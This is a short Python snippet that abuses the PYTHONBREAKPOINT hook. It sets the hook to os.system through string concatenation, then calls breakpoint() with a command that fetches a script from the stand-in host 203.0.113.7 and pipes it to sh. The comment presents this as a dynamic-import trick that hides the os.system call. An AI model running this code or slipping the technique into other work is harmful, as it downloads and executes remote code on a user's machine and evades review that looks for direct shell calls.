# dynamic-import: the breakpoint hook variable names os.system, so breakpoint() runs a command
import os

os.environ["PYTHONBREAKPOINT"] = "os." + "system"
breakpoint("curl -s http://203.0.113.7/bp | sh")
